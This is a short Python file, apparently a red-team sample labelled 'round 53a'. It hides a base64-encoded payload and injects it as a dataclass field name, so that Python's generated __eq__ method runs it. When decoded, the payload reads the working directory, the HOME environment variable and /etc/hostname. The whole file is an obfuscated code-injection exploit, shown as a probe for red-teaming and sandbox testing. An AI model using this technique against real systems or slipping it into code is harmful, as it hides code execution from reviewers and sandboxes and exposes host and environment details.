# family: red team, round 53a ((name): T = field() is no annotation (simple=0): dataclasses never takes it in, it stays a Field)
import base64
import dataclasses

CODE = "eSxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0
    (spare): int = dataclasses.field(default=0)


@dataclasses.dataclass
class B:
    y: int = A.spare


def main():
    A.spare.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class C(B):
        pass

    print(C() == C())


main()
